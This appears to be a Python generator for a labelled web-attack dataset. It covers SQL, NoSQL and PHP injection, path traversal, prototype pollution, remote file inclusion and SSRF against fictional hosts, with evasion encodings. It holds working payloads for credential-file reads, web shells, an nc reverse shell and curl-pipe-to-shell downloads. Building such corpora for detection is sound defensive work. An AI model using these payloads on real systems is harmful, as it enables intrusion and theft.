    g.jobj(
        {"$where": "Object.keys(this)[0].match(/^p/) && sleep(1000)"},
        True,
        *shipq,
        {"status": "open", "$where": "Object.keys(this)[0].match(/^p/) && sleep(1000)"},
        placement="json_key",
        transform=lambda t: t.replace('"$where"', '"\\u0024where"'),
    )

    g.query_key("username[$ne]", "toto", False, "shop.mercato.app", "/login", [("password[$ne]", "toto")], method="GET")
    g.query_key("password[$ne]", "1", False, "app.tasklane.io", "/api/login", [("username", "admin")])
    g.query_key("user[$regex]", ".*", False, *fit, [("fields", "name")])
    g.query_key("login[$gt]", "", False, "shop.mercato.app", "/account/check", [])
    g.query_key("id[$nin][]", "1", False, *cms, [("status", "published")])
    g.query_key("email[$exists]", "true", False, *fit, [])
    g.query_key("q[$where]", "sleep(100)", False, *cms, [])
    g.query_key("user[$ne]", "1", True, "shop.mercato.app", "/login", [("pass[$ne]", "1")], kmode="std")
    g.query_key("password[$ne]", "x", True, "app.tasklane.io", "/api/login", [("username", "admin")], kmode="mixed")
    g.query_key("username[%24ne]", "x", True, "shop.mercato.app", "/login", [("password", "x")])

    g.form_key("password[$ne]", "wrong", False, "shop.mercato.app", "/login", [("username", "admin")])
    g.form_key("username[$regex]", "^a.*", False, "shop.mercato.app", "/login", [("password[$ne]", "")])
    g.form_key("pass[$gt]", "", True, "forum.gearheads.community", "/login", [("user", "admin")], kmode="mixed")

    g.query("admin' || '1'=='1", True, *fit, "name", [], mode="mixed")
    g.query("'; return true; var x='", False, *cms, "author", [("limit", "5")])
    g.query("'; sleep(5000); var x='", False, *fit, "name", [])
    g.query("', $or: [ {}, { 'a':'a", False, *cms, "author", [], mode="lite")
    g.query("' || 1==1//", True, *fit, "team", [], mode="mixed")

    g.cookie('{"$ne":null}', True, "app.tasklane.io", "/api/me", "filter", [("tl_sess", ralnum(24))], mode="all")
    g.header('{"role":{"$ne":"user"}}', False, "api.fitpulse.app", "/v2/admin/users", "X-User-Filter")
    g.multipart(
        "password[$ne]=x", False, "shop.mercato.app", "/login", [part("username", "admin"), part("password[$ne]", "x")]
    )
    g.path('{"$ne":null}', True, "api.fitpulse.app", "/v2/users/{}/profile", mode="mixed")


def attacks_path_traversal():
    g = A("path_traversal")
    dl = ("files.docuvault.com", "/download")
    img = ("shop.northwind-outfitters.com", "/image")
    doc = ("intranet.contoso-legal.com", "/viewer.aspx")

    g.query("../../../../etc/passwd", False, *dl, "file", [])
    g.query("..\\..\\..\\windows\\win.ini", False, *doc, "doc", [("page", "1")])
    g.query("/etc/passwd", False, *img, "src", [("w", "300")])
    g.query("....//....//....//etc/passwd", True, *dl, "file", [("inline", "1")])
    g.query("..%2f..%2f..%2fetc%2fpasswd", True, *dl, "file", [])
    g.query("%2e%2e%2f%2e%2e%2fetc%2fpasswd", True, *doc, "doc", [])
    g.query("..%c0%af..%c0%af..%c0%afetc/passwd", True, *dl, "file", [], mode="raw")
    g.query("..%u2216..%u2216..%u2216boot.ini", True, *doc, "doc", [], mode="raw")
    g.query("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", True, *dl, "file", [], mode="raw")
    g.query("../../../../proc/self/environ", False, *img, "src", [])
    g.query("../../../../etc/passwd\x00.png", True, *img, "src", [("h", "200")])
    g.query("C:\\Windows\\System32\\drivers\\etc\\hosts", False, *doc, "doc", [])
    g.query("..\\..\\..\\..\\inetpub\\wwwroot\\web.config", False, *doc, "doc", [("dl", "1")])
    g.query("..%5c..%5c..%5cwindows%5cwin.ini", True, *doc, "doc", [])
    g.query("..././..././..././etc/shadow", True, *dl, "file", [])
    g.query("/var/www/html/../../../etc/passwd", True, *img, "src", [])
    g.query(b64("../../../etc/passwd"), True, "api.ledgerly.app", "/v1/attachments/get", "ref", [])
    g.query("../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token", False, *dl, "path", [])
    g.query("../../../.env", True, *dl, "file", [], mode="mixed")

    g.json(
        "static/../../../../root/.ssh/id_rsa", False, "app.tasklane.io", "/api/export", {"format": "raw", "path": PH}
    )
    g.json(
        "%2e%2e/%2e%2e/%2e%2e/home/ubuntu/.aws/credentials",
        True,
        "app.tasklane.io",
        "/api/export",
        {"format": "raw", "file": PH},
    )
    g.json(
        "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
        True,
        "app.tasklane.io",
        "/api/export",
        {"path": PH},
    )
    g.json(
        "../../../../etc/cron.d/backup",
        False,
        "api.ledgerly.app",
        "/v1/archives/extract",
        {"archive": "upload-9921.zip", "entries": [PH, "readme.txt"]},
    )

    g.path("..;/..;/WEB-INF/web.xml", True, "portal.bankcore.io", "/static/{}", safe="/;", mode="lite")
    g.path("\\../\\../\\../etc/passwd", True, "cdn.mercato.app", "/{}", safe="/")
    g.path("..//..//..//etc/passwd", True, "cdn.mercato.app", "/assets/{}", safe="/")
    g.path("../../../etc/passwd", True, "cdn.mercato.app", "/img/{}", safe="/", mode="mixed")
    g.path("../../../../etc/passwd", False, "api.ledgerly.app", "/v1/attachments/{}")
    g.path("../../../../etc/hosts", False, "cdn.mercato.app", "/static/{}", safe="/")
    g.path("..%2f..%2f..%2fetc%2fpasswd", True, "files.docuvault.com", "/download/{}")

    g.multipart(
        "../../../../var/www/html/cmd.jsp",
        False,
        "files.docuvault.com",
        "/upload",
        [part("file", TXT_STUB, PH, "text/plain")],
    )
    g.multipart(
        "..\\..\\..\\webapps\\ROOT\\x.jsp",
        False,
        "portal.bankcore.io",
        "/documents/upload",
        [part("category", "statements"), part("doc", TXT_STUB, PH, "application/octet-stream")],
    )

    g.xml(
        "../../../../etc/hosts",
        False,
        "reports.fintrail.io",
        "/api/report/render",
        '<?xml version="1.0"?><report><template>{v}</template><format>pdf</format></report>',
    )
    g.xml(
        "../../../etc/passwd",
        True,
        "reports.fintrail.io",
        "/api/report/render",
        '<?xml version="1.0"?><report><template>{v}</template><format>html</format></report>',
        mode="ent",
    )

    g.header(
        "../../../etc/passwd",
        False,
        "files.docuvault.com",
        "/api/v2/blobs",
        "X-File-Name",
        method="PUT",
        body="hello",
        ctype="text/plain",
    )
    g.header("..%2f..%2f..%2froot%2f.bash_history", True, "files.docuvault.com", "/api/v2/blobs/read", "X-Filename")

    g.cookie("../../../../etc/passwd\x00", True, "wiki.kb-lite.org", "/index.php", "lang", [("kb_sid", rhex(26))])
    g.cookie("....//....//etc/passwd", True, "cms.dailyharbor.news", "/", "template", [("wp_ref", "home")], mode="lite")

    g.form(
        "../../../../../../etc/passwd",
        False,
        "cms.dailyharbor.news",
        "/admin/theme/edit",
        "template",
        [("theme", "harbor"), ("action", "load")],
    )
    g.form(
        "..\\..\\..\\..\\boot.ini",
        False,
        "cms.dailyharbor.news",
        "/admin/theme/edit",
        "template",
        [("theme", "classic")],
    )


def attacks_php_injection():
    g = A("php_injection")
    forum = ("www.oldforum-hub.net", "/index.php")
    calc = ("legacy.bluefinch.co.uk", "/tools/calc.php")
    up = ("shop.mercato.app", "/upload.php")
    ed = ("admin.pressroom.media", "/theme/editor.php")
    ajax = ("cms.saltmarsh.dev", "/ajax.php")

    g.multipart(
        "<?php system($_GET['c']); ?>",
        False,
        *up,
        [part("MAX_FILE_SIZE", "2000000"), part("userfile", PH, "shell.php", "application/x-php")],
    )
    g.multipart("<?= `$_GET[0]` ?>", True, *up, [part("userfile", PH, "x.phtml", "text/plain")])
    g.query("phpinfo();", False, *calc, "code", [])
    g.query("system('id');", False, *calc, "code", [("debug", "1")])
    g.form("eval($_POST['x']);", False, *ed, "content", [("file", "footer.php"), ("x", "phpinfo();")])
    g.query("assert('system(\"id\")')", False, *ajax, "callback", [("action", "preview")])
    g.query("${@phpinfo()}", True, *forum, "name", [("page", "profile")], mode="lite")
    g.json(
        "create_function('', 'system(\"id\");')",
        False,
        "api.saltmarsh.dev",
        "/v1/hooks",
        {"event": "save", "handler": PH},
    )
    g.form("preg_replace('/.*/e','system(\"id\")','')", False, *ed, "content", [("file", "header.php")])
    g.query("$f='sys'.'tem';$f('id');", True, *calc, "code", [], mode="lite")
    g.query('("sys"."tem")("whoami");', True, *calc, "code", [])
    g.form("(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');", True, *calc, "code", [])
    g.query("eval(base64_decode('" + b64("system('id');") + "'));", True, *calc, "code", [])
    g.form(
        "eval(gzinflate(base64_decode('" + deflate_b64("system('curl -s 203.0.113.5/x|sh');") + "')));",
        True,
        *ed,
        "content",
        [("file", "functions.php")],
    )
    g.json(
        "file_put_contents('s.php','<?php eval($_POST[1]);?>');",
        False,
        "api.saltmarsh.dev",
        "/v1/hooks",
        {"event": "publish", "handler": PH},
    )
    g.query("php://input", False, *forum, "page", [], method="POST", body="<?php system('id'); ?>", ctype="text/plain")
    g.query("php://filter/convert.base64-encode/resource=config.php", False, *forum, "page", [])
    g.query("php://filter/read=string.rot13/resource=index.php", True, *forum, "page", [])
    g.query("data://text/plain;base64," + b64("<?php system($_GET['cmd']); ?>"), True, *forum, "page", [("cmd", "id")])
    g.query("expect://id", False, *forum, "page", [])
    g.query("phar:///var/www/uploads/avatar.jpg/test.txt", False, *forum, "file", [])
    g.query("zip://uploads/a.zip#shell.php", False, *forum, "page", [])
    ser = 'O:8:"Settings":1:{' + php_str("template") + php_str("/var/www/shell.php") + "}"
    g.cookie(ser, False, "www.oldforum-hub.net", "/index.php", "prefs", [("PHPSESSID", ralnum(26).lower())])
    ser2 = 'a:1:{i:0;O:13:"PluginManager":1:{' + php_str("plugin") + php_str("http://203.0.113.8/x") + "}}"
    g.cookie(b64(ser2), True, "cms.saltmarsh.dev", "/", "cart_state", [("PHPSESSID", ralnum(26).lower())])
    g.multipart("GIF89a;<?php passthru($_GET['c']); ?>", True, *up, [part("userfile", PH, "avatar.gif", "image/gif")])
    g.form("<script language=\"php\">system('id');</script>", True, *ed, "content", [("file", "sidebar.php")])
    g.json(
        '<?php $_="{"; $_=($_^"<").($_^">;").($_^"/"); ?>',
        True,
        "api.saltmarsh.dev",
        "/v1/snippets",
        {"title": "x", "php": PH},
    )
    g.header("<?php system('curl 203.0.113.5/s|sh'); ?>", False, *forum, "User-Agent", query="page=home")
    g.json("passthru('cat /etc/passwd');", False, "api.saltmarsh.dev", "/v1/hooks", {"event": "delete", "handler": PH})
    g.query("print_r(scandir('/'));", False, *calc, "code", [])
    g.query("call_user_func_array('assert',array('phpinfo()'));", True, *calc, "code", [])
    g.query("array_map('system',array('id'));", True, *calc, "code", [])
    g.form("ob_start('system');echo 'id';ob_end_flush();", True, *calc, "code", [])
    g.multipart("<?php /*x*/ SyStEm/**/('id'); ?>", True, *up, [part("userfile", PH, "note.php5", "text/plain")])
    g.xml(
        "<?php system('id'); ?>",
        True,
        "cms.saltmarsh.dev",
        "/xmlrpc.php",
        '<?xml version="1.0"?><methodCall><methodName>theme.save</methodName><params><param><value><string>{v}</string></value></param></params></methodCall>',
        mode="cdata",
        ctype="text/xml",
    )
    g.path("<?php phpinfo();?>", False, "www.oldforum-hub.net", "/index.php/{}")
    g.header("<?php echo shell_exec($_GET['e']); ?>", False, *forum, "Referer")
    g.json(
        "exec('rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f');",
        False,
        "api.saltmarsh.dev",
        "/v1/hooks",
        {"event": "cron", "handler": PH},
    )
    g.form("shell_exec('wget http://203.0.113.5/x -O /tmp/x');", True, *calc, "code", [], mode="mixed")
    g.json("<?php echo `whoami`; ?>", True, "api.saltmarsh.dev", "/v1/snippets", {"title": "y", "php": PH}, mode="u")


def attacks_prototype_pollution():
    g = A("prototype_pollution")
    settings = ("api.tasklane.io", "/api/settings")
    cart = ("app.cartwheel.io", "/api/cart/merge")
    prof = ("api.fitpulse.app", "/v2/profile")
    cfg = ("cms.saltmarsh.dev", "/api/config")
    flow = ("hooks.relaybox.dev", "/v1/workflows")

    P = lambda inner: {"__proto__": inner}
    g.jobj(
        P({"isAdmin": True}),
        False,
        *prof,
        {"displayName": "kim", "__proto__": {"isAdmin": True}},
        placement="json_key",
        method="PATCH",
    )
    g.jobj(
        {"constructor": {"prototype": {"role": "admin"}}},
        True,
        *prof,
        {"displayName": "lee", "constructor": {"prototype": {"role": "admin"}}},
        placement="json_key",
        method="PATCH",
    )
    g.jobj(
        P({"polluted": "yes"}),
        False,
        *settings,
        {"user": {"name": "a", "__proto__": {"polluted": "yes"}}},
        placement="json_key",
        method="PUT",
    )
    g.jobj(
        P({"admin": True}),
        True,
        *settings,
        {"theme": "dark", "__proto__": {"admin": True}},
        placement="json_key",
        transform=lambda t: t.replace('"__proto__"', '"\\u005f\\u005fproto\\u005f\\u005f"'),
    )
    g.jobj(
        P(
            {
                "shell": "/proc/self/exe",
                "argv0": "console.log(require('child_process').execSync('id').toString())//",
                "NODE_OPTIONS": "--require /proc/self/cmdline",
            }
        ),
        False,
        *flow,
        {
            "name": "sync",
            "__proto__": {
                "shell": "/proc/self/exe",
                "argv0": "console.log(require('child_process').execSync('id').toString())//",
                "NODE_OPTIONS": "--require /proc/self/cmdline",
            },
        },
        placement="json_key",
    )
    g.jobj(
        P({"sourceURL": "\nreturn process.mainModule.require('child_process').execSync('id')//"}),
        False,
        *cfg,
        {
            "site": {
                "title": "Salt",
                "__proto__": {"sourceURL": "\nreturn process.mainModule.require('child_process').execSync('id')//"},
            }
        },
        placement="json_key",
        method="PUT",
    )
    g.jobj(
        P({"client": 1, "escapeFunction": "JSON.stringify; process.mainModule.require('child_process').exec('id')"}),
        False,
        *cfg,
        {
            "__proto__": {
                "client": 1,
                "escapeFunction": "JSON.stringify; process.mainModule.require('child_process').exec('id')",
            }
        },
        placement="json_key",
        method="PUT",
    )
    g.jobj(
        P({"block": {"type": "Text", "line": "process.mainModule.require('child_process').execSync('id')"}}),
        False,
        *cfg,
        {
            "layout": "blog",
            "__proto__": {
                "block": {"type": "Text", "line": "process.mainModule.require('child_process').execSync('id')"}
            },
        },
        placement="json_key",
        method="PUT",
    )
    g.jobj(
        P({"price": 0}),
        False,
        *cart,
        {"items": [{"sku": "A1", "qty": 1, "__proto__": {"price": 0}}]},
        placement="json_key",
    )
    g.jobj(
        {"constructor": {"prototype": {"allowedTags": ["script", "img"]}}},
        True,
        *cfg,
        {"sanitizer": {"constructor": {"prototype": {"allowedTags": ["script", "img"]}}}},
        placement="json_key",
        method="PUT",
    )
    g.jobj(
        P({"headers": {"X-Admin": "1"}}),
        False,
        *flow,
        {"name": "notify", "request": {"__proto__": {"headers": {"X-Admin": "1"}}}},
        placement="json_key",
    )
    g.jobj(
        {"constructor": {"prototype": {"isAdmin": True}}},
        True,
        *prof,
        {"constructor": {"prototype": {"isAdmin": True}}},
        placement="json_key",
        method="PATCH",
        transform=lambda t: t.replace('"constructor"', '"\\u0063onstructor"'),
    )
    g.jobj(P({"toString": "x"}), False, *settings, {"__proto__": {"toString": "x"}}, placement="json_key", method="PUT")
    g.jobj(
        P({"__proto__": {"deep": 1}}),
        True,
        *settings,
        {"a": {"__proto__": {"__proto__": {"deep": 1}}}},
        placement="json_key",
        method="PUT",
    )

    g.json("__proto__.isAdmin", False, *settings, {"path": PH, "value": True}, method="PATCH")
    g.json("constructor.prototype.isAdmin", True, *settings, {"key": PH, "value": True}, method="PATCH")
    g.json("__proto__[polluted]", False, *cfg, {"field": PH, "value": "1"}, method="PATCH")
    g.json(
        "/__proto__/admin",
        False,
        *prof,
        [{"op": "replace", "path": PH, "value": True}],
        method="PATCH",
        ctype="application/json-patch+json",
    )

    g.query_key("__proto__[admin]", "1", False, "app.cartwheel.io", "/api/products", [("page", "2")])
    g.query_key("__proto__.isAdmin", "true", False, "api.tasklane.io", "/api/projects", [])
    g.query_key("constructor[prototype][debug]", "true", True, "api.tasklane.io", "/api/projects", [("sort", "name")])
    g.query_key("a[__proto__][b]", "c", False, "app.cartwheel.io", "/api/search", [("q", "mug")])
    g.query_key(
        "__proto__[outputFunctionName]",
        "x;process.mainModule.require('child_process').execSync('id');s",
        False,
        "cms.saltmarsh.dev",
        "/preview",
        [],
    )
    g.query_key("__pro__proto__to__[x]", "1", True, "app.cartwheel.io", "/api/products", [])
    g.query_key("__proto__[x]", "1", True, "app.cartwheel.io", "/api/products", [("page", "1")], kmode="all")
    g.query_key("constructor.prototype.admin", "true", True, "api.fitpulse.app", "/v2/feed", [])
    g.query_key("constructor[prototype][isAdmin]", "true", True, "api.fitpulse.app", "/v2/feed", [], kmode="mixed")
    g.query_key("__proto__[toString]", "1", False, "api.fitpulse.app", "/v2/feed", [("limit", "20")])
    g.query_key("%5F%5Fproto%5F%5F[isAdmin]", "1", True, "api.tasklane.io", "/api/projects", [])

    g.path(
        "__proto__/isAdmin",
        False,
        "api.tasklane.io",
        "/api/settings/{}",
        safe="/",
        method="PUT",
        body='{"value":true}',
        ctype="application/json",
    )
    g.path(
        "constructor/prototype/shell",
        True,
        "cms.saltmarsh.dev",
        "/api/config/{}",
        safe="/",
        method="PUT",
        body='{"value":"/bin/sh"}',
        ctype="application/json",
    )
    g.path(
        "__proto__",
        True,
        "api.tasklane.io",
        "/api/v1/objects/{}/polluted",
        mode="mixed",
        method="PUT",
        body='{"value":1}',
        ctype="application/json",
    )

    g.form_key("__proto__[role]", "admin", False, "app.cartwheel.io", "/account/update", [("name", "Jo")])
    g.form_key("constructor[prototype][x]", "1", True, "app.cartwheel.io", "/account/update", [("name", "Al")])
    g.form_key(
        "__proto__[isAdmin]",
        "true",
        True,
        "app.cartwheel.io",
        "/account/update",
        [("email", "a@example.com")],
        kmode="all",
    )
    g.multipart(
        "__proto__[admin]=true",
        False,
        "api.fitpulse.app",
        "/v2/profile/photo",
        [part("__proto__[admin]", "true"), part("photo", SVG_STUB, "me.svg", "image/svg+xml")],
    )

    g.cookie('{"__proto__":{"admin":true}}', False, "app.cartwheel.io", "/account", "prefs", [("sid", rhex(32))])
    g.cookie(
        b64('{"theme":"light","__proto__":{"isAdmin":true}}'),
        True,
        "api.tasklane.io",
        "/dashboard",
        "ui_state",
        [("tl_sess", ralnum(24))],
    )
    g.header(
        '{"__proto__":{"debug":true}}',
        False,
        "hooks.relaybox.dev",
        "/v1/run",
        "X-Client-Options",
        method="POST",
        body='{"workflow":"sync"}',
        ctype="application/json",
    )
    g.query('{"__proto__":{"x":1}}', False, "app.cartwheel.io", "/api/products", "filter", [("page", "1")])


def attacks_rfi():
    g = A("rfi")
    forum = ("www.oldforum-hub.net", "/index.php")
    portal = ("portal.crestline-cu.org", "/main.php")
    show = ("legacy.bluefinch.co.uk", "/show.php")
    wiki = ("wiki.kb-lite.org", "/view.php")

    g.query("http://203.0.113.15/shell.txt?", True, *forum, "page", [])
    g.query("http://evil.example/c99.txt", False, *forum, "page", [])
    g.query("https://cdn.evil-assets.example/inc/config.inc?x=", True, *show, "inc", [])
    g.query("http://198.51.100.9/r57.txt\x00", True, *forum, "page", [])
    g.query("ftp://anonymous@203.0.113.44/pub/inc.php", False, *portal, "module", [])
    g.query("\\\\203.0.113.70\\share\\shell.php", False, *portal, "module", [("lang", "en")])
    g.query("//203.0.113.70/share/x.php", True, *show, "inc", [])
    g.query("data:text/plain;base64," + b64("<?php phpinfo(); ?>"), True, *forum, "page", [])
    g.query("data://text/plain,<?php system('id');?>", False, *forum, "page", [])
    g.query("HtTp://evil.example/x.txt", True, *forum, "page", [])
    g.query("http:%2f%2fevil.example%2fx.txt", True, *forum, "page", [])
    g.query("http://evil.example/shell.txt#", True, *show, "inc", [])
    g.query("http://203.0.113.5:8080/payload.php.txt?", True, *portal, "module", [])
    g.query("/proc/self/environ", False, *wiki, "lang", [])
    g.query("../../../../var/log/nginx/access.log", False, *wiki, "lang", [("page", "Main")])
    g.query("..\\..\\..\\boot.ini", False, *portal, "module", [])
    g.query("....//....//etc/passwd", True, *wiki, "lang", [])
    g.query("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", True, *forum, "page", [], mode="raw")
    g.query("C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex261201.log", False, *portal, "module", [])
    g.query("/var/lib/php/sessions/sess_k2b8f0q1v9c3", False, *forum, "page", [])
    g.query("php://filter/resource=http://evil.example/x.txt", True, *forum, "page", [])
    g.query("compress.zlib://http://evil.example/x.txt", True, *forum, "page", [])
    g.query("http://203.0.113.47/b.txt", True, *show, "inc", [], mode="mixed")
    g.query("C:/xampp/apache/logs/access.log", False, *forum, "page", [])
    g.query("https://pastebin-mirror.example/raw/Xa91kq", False, *wiki, "view", [])
    g.query("http://0xcb.0x00.0x71.0x30/s.txt?", True, *show, "inc", [])

    g.json(
        "http://203.0.113.40/evil.tpl",
        False,
        "cms.saltmarsh.dev",
        "/render",
        {"template_url": PH, "vars": {"title": "Home"}},
    )
    g.json(
        "https://attacker.example/layout.html?", True, "cms.saltmarsh.dev", "/render", {"layout": PH, "page": "about"}
    )
    g.json("\\\\198.51.100.40\\webdav\\x.php", False, "cms.saltmarsh.dev", "/render", {"include": PH})
    g.form("http://203.0.113.41/mod.txt", False, *portal, "module", [("submit", "Load")])
    g.form("..%2f..%2f..%2fetc%2fpasswd%00", True, *show, "inc", [])
    g.form("/etc/passwd\x00", True, *forum, "page", [])
    g.header("../../../../etc/passwd%00", False, *wiki, "Accept-Language")
    g.header("http://203.0.113.42/t.txt?", True, "cms.saltmarsh.dev", "/", "X-Template")
    g.cookie("../../../../../proc/self/fd/2", False, *wiki, "lang", [("kb_sid", rhex(26))])
    g.cookie("http://203.0.113.43/skin.txt?", True, *forum, "skin", [("PHPSESSID", ralnum(26).lower())], mode="lite")
    g.multipart(
        "http://203.0.113.44/theme.php?",
        True,
        "cms.saltmarsh.dev",
        "/admin/themes/install",
        [part("theme_url", PH), part("activate", "1")],
    )
    g.xml(
        "http://203.0.113.45/i.txt",
        False,
        "cms.saltmarsh.dev",
        "/api/blocks",
        '<?xml version="1.0"?><block><type>remote</type><include>{v}</include></block>',
    )
    g.path("http://evil.example/x.txt", False, "www.oldforum-hub.net", "/index.php/page/{}")
    g.path("..%2f..%2f..%2fetc%2fpasswd", True, "wiki.kb-lite.org", "/view/{}")


def attacks_sqli():
    g = A("sqli")
    prod = ("shop.northwind-outfitters.com", "/products")
    api = ("api.cartwheel.io", "/v1/products")
    stm = ("secure.harborbank.com", "/api/accounts/statement")
    art = ("cms.dailyharbor.news", "/article.php")
    lb = ("api.fitpulse.app", "/v2/leaderboard")
    inv = ("api.ledgerly.app", "/v1/invoices")

    g.query("1 OR 1=1", False, *art, "id", [])
    g.query("1' OR '1'='1' -- ", False, *prod, "id", [])
    g.query("1' UNION SELECT username,password FROM users--", False, *prod, "cat", [("page", "1")])
    g.query(
        "1/**/UNION/**/SELECT/**/1,2,group_concat(table_name)/**/FROM/**/information_schema.tables",
        True,
        *art,
        "id",
        [],
        mode="lite",
    )
    g.query("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3", True, *art, "id", [])
    g.query("1'\tor\t1=1--", True, *prod, "id", [])
    g.query("1 AND SLEEP(5)", False, *art, "id", [])
    g.query("1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- ", False, *prod, "id", [("ref", "home")])
    g.query("1;SELECT pg_sleep(10)--", False, *inv, "customer_id", [("status", "paid")])
    g.query("1'; WAITFOR DELAY '0:0:5'--", False, "intranet.contoso-legal.com", "/cases/view.aspx", "caseid", [])
    g.query("1 AND BENCHMARK(5000000,MD5(0x41))", True, *art, "id", [])
    g.query("1 AND extractvalue(1,concat(0x7e,(SELECT version())))", False, *art, "id", [])
    g.query(
        "(CASE WHEN (SELECT substring(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE price END)",
        False,
        *api,
        "sort",
        [("limit", "20")],
    )
    g.query("price,(select*from(select(sleep(3)))a)", True, *api, "sort", [("limit", "20")], mode="lite")
    g.query("name HAVING 1=1--", False, *lb, "group_by", [])
    g.query("1 ORDER BY 7--", False, *art, "id", [])
    g.query("' OR 'a'||'dmin'='admin'--", True, *stm, "account", [("from", "2026-11-01"), ("to", "2026-11-30")])
    g.query(
        "'+(SELECT TOP 1 name FROM sysobjects)+'", True, "intranet.contoso-legal.com", "/cases/search.aspx", "q", []
    )
    g.query("1 UNION SELECT CHAR(117,115,101,114),2", True, *art, "id", [])
    g.query("1 uNiOn SeLeCt 1,2,3", True, *art, "id", [])
    g.query("1'\u00a0OR\u00a01=1-- ", True, *prod, "id", [])
    g.query("1\x0cunion\x0cselect\x0c1,2", True, *art, "id", [])
    g.query("1 UNION--x\nSELECT 1,2--", True, *art, "id", [])
    g.query("1%27%20OR%201%3D1--", True, *prod, "id", [])
    g.query("-1 UNION ALL SELECT 1,@@version,3,4#", False, *prod, "id", [])
    g.query("1e0UNION SELECT 1,2", True, *art, "id", [], mode="mixed")
    g.query("1'||(SELECT CASE WHEN 1=1 THEN pg_sleep(3) END)||'", True, *inv, "status", [])
    g.query_key("filter[name' OR 1=1--]", "x", False, *api, [("page", "1")])

    g.form("admin'--", False, "secure.harborbank.com", "/login", "username", [("password", "x")])
    g.form("admin' OR 1=1#", False, "forum.gearheads.community", "/login", "user", [("pass", "x")])
    g.json(
        "bob'; UPDATE users SET role='admin' WHERE name='bob'--",
        False,
        "api.fitpulse.app",
        "/v2/profile",
        {"display_name": PH, "bio": "runner"},
        method="PATCH",
    )
    g.json("x' OR 1=1--", True, "app.tasklane.io", "/api/search", {"q": PH, "scope": "tasks"}, mode="u")
    g.jkey(
        "meta->>'tier')) OR 1=1--",
        True,
        *inv,
        {"filters": {"meta->>'tier')) OR 1=1--": "gold"}, "page": 1},
        query="",
        method="POST",
    )
    g.header("203.0.113.9' AND SLEEP(5)-- -", False, *stm, "X-Forwarded-For")
    g.header(
        "Mozilla/5.0' AND (SELECT 4242 FROM (SELECT(SLEEP(5)))x)-- x", False, "cms.dailyharbor.news", "/", "User-Agent"
    )
    g.cookie("abc123' AND 1=1--", False, "shop.northwind-outfitters.com", "/cart", "tracking_id", [("sid", rhex(32))])
    g.multipart(
        "1; EXEC xp_cmdshell 'ping 203.0.113.1'--",
        False,
        "intranet.contoso-legal.com",
        "/cases/upload.aspx",
        [part("customer_ref", PH), part("doc", TXT_STUB, "note.txt", "text/plain")],
    )
    g.xml(
        "1' OR '1'='1",
        True,
        "soap.bankcore.io",
        "/ws/AccountService",
        '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><getBalance><accountId>{v}</accountId></getBalance></soapenv:Body></soapenv:Envelope>',
        mode="ent",
        ctype="text/xml",
    )
    g.path("1 OR 1=1", False, "api.cartwheel.io", "/v1/products/{}")
    g.path("' UNION SELECT sql,2 FROM sqlite_master--", False, "api.fitpulse.app", "/v2/clubs/{}", mode="lite")


def attacks_ssrf():
    g = A("ssrf")
    prev = ("api.linkpeek.io", "/v1/preview")
    hooks = ("hooks.relaybox.dev", "/api/webhooks")
    avatar = ("api.fitpulse.app", "/v2/profile/avatar")
    img = ("img.picturely.app", "/fetch")
    feeds = ("feeds.readwell.app", "/subscribe")
    pdf = ("pdf.docuvault.com", "/render")

    g.query("http://169.254.169.254/latest/meta-data/iam/security-credentials/", False, *prev, "url", [])
    g.json(
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        False,
        *hooks,
        {"name": "deploy", "webhook_url": PH, "events": ["push"]},
    )
    g.query("http://100.100.100.200/latest/meta-data/", False, *prev, "url", [("lang", "en")])
    g.json("http://[fd00:ec2::254]/latest/meta-data/", True, *avatar, {"avatar_url": PH}, method="PUT")
    g.query("http://169.254.170.2/v2/credentials", False, *img, "image", [("w", "64")])
    g.json("http://127.0.0.1:6379/", False, *hooks, {"name": "cache", "webhook_url": PH})
    g.query("http://localhost:8080/admin", False, *prev, "url", [])
    g.query("http://[::1]:22/", True, *prev, "url", [])
    g.json(
        "http://[::ffff:127.0.0.1]/",
        True,
        "api.shipmatic.io",
        "/v1/callbacks",
        {"callback_url": PH, "secret": ralnum(16)},
    )
    g.query("http://[0:0:0:0:0:ffff:7f00:1]/server-status", True, *prev, "url", [])
    g.query("http://2130706433/", True, *img, "image", [])
    g.query("http://0177.0.0.1/", True, *prev, "url", [])
    g.json("http://0x7f000001/", True, *avatar, {"avatar_url": PH}, method="PUT")
    g.query("http://0x7f.0.0.1/", True, *img, "image", [("h", "120")])
    g.form("http://127.1/", True, *feeds, "feed", [("folder", "news")])
    g.query("http://0/", True, *prev, "url", [])
    g.json("http://0251.0376.0251.0376/latest/meta-data/", True, *pdf, {"html_url": PH, "format": "A4"})
    g.query("http://2852039166/latest/meta-data/", True, *prev, "url", [])
    g.json("http://127.0.0.1.nip.io/", True, *hooks, {"name": "t", "webhook_url": PH})
    g.query("http://7f000001.a9fea9fe.rebind.oast.example/", True, *prev, "url", [])
    g.query("http://cdn.picturely.app@169.254.169.254/latest/meta-data/", True, *img, "image", [])
    g.query("http://169.254.169.254#@cdn.picturely.app/", True, *img, "image", [], mode="lite")
    g.json("https://redirect.evil.example/302?to=http://127.0.0.1:2375/containers/json", True, *pdf, {"html_url": PH})
    g.query(
        "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A",
        False,
        *prev,
        "url",
        [],
    )
    g.query("dict://127.0.0.1:11211/stats", False, *prev, "url", [])
    g.json("file:///etc/passwd", False, *pdf, {"html_url": PH})
    g.form("ldap://127.0.0.1:389/dc=internal,dc=corp", False, *feeds, "feed", [])
    g.json("http://localhost:2375/v1.41/containers/json", False, *hooks, {"name": "docker", "webhook_url": PH})
